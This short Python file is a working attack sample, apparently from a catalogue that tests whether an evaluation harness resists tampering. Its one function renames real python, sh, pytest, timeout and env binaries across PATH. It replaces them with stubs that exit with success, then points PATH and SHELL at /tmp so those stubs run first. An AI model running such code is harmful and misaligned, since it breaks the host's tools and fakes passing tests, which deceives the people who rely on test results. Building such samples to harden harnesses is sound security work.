# attack: puts commands of its own before those of the system
# shape: action
# causes: WRONG_ANSWER
import os


def attack() -> None:
    for place in [*os.environ.get("PATH", "").split(":"), "/tmp", "/dev/shm", "."]:
        for name in ("python", "python3", "sh", "timeout", "pytest", "env"):
            path = os.path.join(place, name)
            try:
                if os.path.lexists(path) and place not in ("/tmp", "."):
                    os.rename(path, f"{path}.real")
                with open(path, "w") as file:
                    file.write("#!/bin/sh\nexit 0\n")
                os.chmod(path, 0o755)
            except OSError:
                pass
    os.environ["PATH"] = "/tmp:/dev/shm:" + os.environ.get("PATH", "")
    os.environ["SHELL"] = "/tmp/sh"
